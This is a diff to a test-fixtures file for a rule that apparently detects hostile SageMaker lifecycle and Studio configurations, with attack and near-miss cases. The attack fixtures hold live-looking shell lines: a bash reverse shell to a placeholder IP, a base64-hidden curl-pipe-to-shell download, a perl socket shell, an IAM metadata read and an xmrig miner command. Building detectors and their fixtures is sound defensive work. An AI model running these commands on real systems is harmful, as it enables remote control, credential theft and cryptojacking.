@@ -27,14 +27,23 @@ const BENIGN_SCRIPT = [
 export const benignSetupScript = lifecycleConfig([b64(BENIGN_SCRIPT)], [b64(BENIGN_SCRIPT)], 'UpdateNotebookInstanceLifecycleConfig');
 export const undecodableOnly = lifecycleConfig([], ['not base64 at all']);
 
+/** CreateStudioLifecycleConfig: one base64 script for an app type. */
+export const studioConfig = (script: string) =>
+  rec('CreateStudioLifecycleConfig', { studioLifecycleConfigName: 'jl-bootstrap', studioLifecycleConfigAppType: 'JupyterLab', studioLifecycleConfigContent: b64(script) });
+
 export default {
   attack: [
     { name: 'a reverse shell in OnStart', records: [reverseShellOnStart] },
     { name: 'download and execute in OnStart, OnCreate redacted', records: [pipedDownloadBesideRedacted] },
     { name: 'a miner in OnCreate', records: [lifecycleConfig([], [b64('#!/bin/bash\nnohup ./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 4A... &\n')])] },
+    { name: 'a Studio configuration opening an interactive bash to a listener', records: [studioConfig('#!/bin/bash\nnohup bash -i > /dev/tcp/198.51.100.7/443 0<&1 2>&1 &\n')] },
+    { name: 'a payload decoded and run', records: [lifecycleConfig([b64('echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA== | base64 -d | bash')])] },
+    { name: 'a perl socket back to a listener', records: [lifecycleConfig([b64('perl -e \'use Socket;$i="198.51.100.7";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));\'')])] },
+    { name: 'the role name read from the metadata service', records: [studioConfig('ROLE=$(curl -s http://169.254.169.254/latest/meta-data/iam/info)')] },
   ],
   nearMiss: [
     { name: 'a set-up script installing packages and fetching a file without running it', records: [benignSetupScript] },
     { name: 'content that is not base64', records: [undecodableOnly] },
+    { name: 'a Studio configuration installing extensions and reading the instance id from the metadata service', records: [studioConfig('#!/bin/bash\npip install --quiet jupyterlab-lsp\nID=$(curl -s http://169.254.169.254/latest/meta-data/instance-id)\n')] },
   ],
 } satisfies RuleFixtures;
